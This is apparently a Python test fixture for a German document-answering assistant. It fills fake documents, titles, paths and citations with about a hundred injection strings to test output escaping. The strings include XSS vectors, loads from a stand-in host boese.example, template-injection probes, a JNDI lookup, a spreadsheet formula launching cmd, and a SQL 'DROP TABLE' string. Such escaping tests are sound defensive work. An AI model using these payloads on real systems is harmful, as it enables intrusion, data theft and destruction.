"""A hundred texts that want to be more than text, and an assistant whose documents consist of them."""

from __future__ import annotations

import datetime
from dataclasses import replace

from web_fakes import FakeAssistant, make_document

from assistant.answering.writing.talk import Listener
from assistant.errors import NotFoundError
from assistant.notices import Notice
from assistant.records import (
    Answer,
    Citation,
    Conflict,
    Document,
    Exact,
    Expired,
    Filters,
    Hit,
    Listing,
    Passage,
    Question,
    Quote,
    Sentence,
    Span,
)

# What a script that ran would leave behind.
RAN = "self.__ran=1"
FOREIGN = "https://boese.example"
# One a line; backslashes and signs that nobody sees are escaped. CODE is a script, FOREIGN another website.
_WRITTEN = r"""
<script>CODE</script>
</script><script>CODE</script>
<ScRiPt/src=data:,CODE></sCrIpT>
<script src=FOREIGN/x.js>
<img src=x onerror=CODE>
<img src=FOREIGN/x.png>
<svg onload=CODE>
<svg/onload=CODE//
<svg><script>CODE</script>
<svg><animate onbegin=CODE attributeName=x dur=1s>
<svg><a xlink:href='javascript:CODE'><text>x</text></a></svg>
<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=CODE/>#x'/></svg>
<math><mtext><style><img src=x onerror=CODE></style></mtext></math>
<math href='javascript:CODE'>x</math>
<body onload=CODE>
<html onclick=CODE>
<iframe src='javascript:CODE'></iframe>
<iframe srcdoc='<script>CODE</script>'>
<object data='javascript:CODE'>
<embed src='FOREIGN'>
<video><source onerror=CODE></video>
<audio src=x onerror=CODE>
<details open ontoggle=CODE>x</details>
<input autofocus onfocus=CODE>
<select autofocus onfocus=CODE>
<textarea autofocus onfocus=CODE>
<button formaction='javascript:CODE'>x</button>
<form action='FOREIGN'><input name=q>
<a href='javascript:CODE'>x</a>
<a href='jAvAsCrIpT:CODE'>x</a>
<a href='java\u0009script:CODE'>x</a>
<a href='&#106;avascript:CODE'>x</a>
<a href='data:text/html,<script>CODE</script>'>x</a>
<base href='FOREIGN/'>
<meta http-equiv=refresh content='0;url=FOREIGN'>
<link rel=stylesheet href='FOREIGN/x.css'>
<style>@import 'FOREIGN/x.css';</style>
<style>*{background:url(FOREIGN)}</style>
<p style='background:url(FOREIGN)'>x</p>
<marquee onstart=CODE>x</marquee>
<template><script>CODE</script></template>
<noscript><p title='</noscript><img src=x onerror=CODE>'>
<xmp><img src=x onerror=CODE></xmp>
<plaintext>
<!--<img src='--><img src=x onerror=CODE>'>
<![CDATA[<script>CODE</script>]]>
<wissens-assistent server='FOREIGN'></wissens-assistent>
<slot name=x onslotchange=CODE>
<dialog open onclose=CODE>x</dialog>
<p id=question name=getElementById>x</p>
<img name=currentScript src=x>
<mark id="quote">x</mark>
</mark></p></main></body></html>
" onmouseover="CODE
' onmouseover='CODE
" autofocus onfocus="CODE" x="
"><script>CODE</script>
'><img src=x onerror=CODE>
` onmouseover=`CODE
" style="background:url(FOREIGN)
"/><svg onload=CODE>
x" href="FOREIGN" y="
javascript:CODE
JaVaScRiPt:CODE//
 javascript:CODE
\u0001javascript:CODE
data:text/html;base64,PHNjcmlwdD4=
vbscript:msgbox(1)
//boese.example/x
\\\\boese.example\\x
FOREIGN
{{7*7}}
${7*7}
#{7*7}
<%= 7*7 %>
{% raw %}{{7*7}}{% endraw %}
{{config}}
{{''.__class__.__mro__}}
${jndi:ldap://boese.example/a}
{0.__class__}
%(key)s %s %n
&lt;script&gt;CODE&lt;/script&gt;
&#60;script&#62;CODE&#60;/script&#62;
&amp;lt;img src=x onerror=CODE&amp;gt;
\\x3cscript\\x3eCODE
\\u003cscript\\u003eCODE
%3Cscript%3ECODE%3C/script%3E
+ADw-script+AD4-CODE+ADw-/script+AD4-
\u202e<script>CODE</script>\u202c
\u200b<\u200bscript>CODE
\uff1cscript\uff1eCODE\uff1c/script\uff1e
<scr\u00adipt>CODE</scr\u00adipt>
\ufeff<script>CODE</script>
[x](javascript:CODE)
![x](FOREIGN/x.png)
[[x|FOREIGN]]
=HYPERLINK("FOREIGN";"Klick")
@SUM(1+1)*cmd|' /C calc'!A0
'; DROP TABLE documents; --
\u2028CODE\u2029
"""


def _read(line: str) -> str:
    text = line.encode().decode("unicode_escape")
    return text.replace("CODE", RAN).replace("FOREIGN", FOREIGN)


PAYLOADS = tuple(map(_read, _WRITTEN.strip().splitlines()))
PLAIN = "Kranich und Söhne"


class Poisoned(FakeAssistant):
    """Documents that consist of `texts`, one each: in title, path, text, lab, topic, address and version.

    A question that names the number of one is answered from it alone, and everything that an answer can carry, it does;
    any other question has no answer, and related passages.
    """

    def __init__(self, texts: tuple[str, ...]) -> None:
        super().__init__(tuple(_document(number, text) for number, text in enumerate(texts)))
        self.texts = texts

    def ask(self, question: Question, listener: Listener | None = None) -> Answer:
        self.asked.append(question)
        number = question.text.rpartition(" ")[2]
        if not number.isdigit():
            related = tuple(_hit(document, rank) for rank, document in enumerate(self.corpus[:3], start=1))
            return Answer(
                question.text,
                "de",
                "extractive",
                reason="no_hits",
                related=related,
                resolved=question.text,
                not_mentioned=self.texts[:3],
                suggested=self.texts[:3],
            )
        text, document = self.texts[int(number)], self.corpus[int(number)]
        start = document.text.index(text)
        exact = Exact(text, start, start + len(text), 0)
        info = document.info
        place = (text, start, start + len(text))
        more = (info, (), (info, info), exact, (text, text))
        quotes = [Quote(info, page, *place, *more) for page in (1, None)]
        citations = tuple(Citation(place, quote) for place, quote in enumerate(quotes, start=1))
        sentences = (Sentence(text, (1, 2), Span(0, len(text))), Sentence(f"{text}: • {text} • {text}", (2,)))
        return Answer(
            question.text,
            "de",
            "extractive",
            sentences,
            citations,
            filters=Filters("minutes", text, text, datetime.date(2024, 1, 1), None, frozenset([info.id])),
            understood=frozenset({"lab"}),
            listing=Listing(f"/ergebnisse?q={number}", 3),
            conflicts=(Conflict((1, 2), 1), Conflict((2, 1), None)),
            resolved=f"{text} {number}",
            unanswered=(text, text),
            not_mentioned=(text, text),
            expired=(Expired(text, None, 1, status="paused"), Expired(text, datetime.date(2024, 1, 1), 2)),
            is_unsure=True,
        )

    def search(self, query: str, **_: object) -> list[Hit]:
        return [_hit(document, rank) for rank, document in enumerate(self.corpus, start=1)]

    def document(self, document_id: str, audiences: object) -> Document:
        for document in self.corpus:
            if document.id == document_id:
                return replace(document, superseded_by=document.info, other_paths=(document.info.title,))
        raise NotFoundError("unknown_document", id=document_id)


def _document(number: int, text: str) -> Document:
    lines = [
        f"# {text}",
        f"{text} Frau Kranich fragt danach.",
        f"- {text}",
        f"{text} | {text}",
        "# Beschlüsse",
        f"- {text}",
    ]
    lines += ["# Aufgaben", f"Aufgabe: {text} | Wer: {text} | Bis wann: 20.12.2024"]
    made = make_document(
        f"ordner/{number} {text}.md", text, lines, type="minutes" if number % 2 else "funding", pages=True
    )
    info = replace(made.info, lab=text, topic=text, url=text, series=text, version=text)
    return replace(made, info=info, warnings=(Notice(words=text), Notice.of("mail_tnef", name=text)))


def _hit(document: Document, rank: int) -> Hit:
    block = document.blocks[1]
    text = document.text[block.start : block.end]
    passage = Passage(document.id, block.start, block.end, text, (Span(block.start, block.end),), page=1)
    return Hit(passage, document.info, rank, 0.875, 1 / rank, document.info, (document.info,))
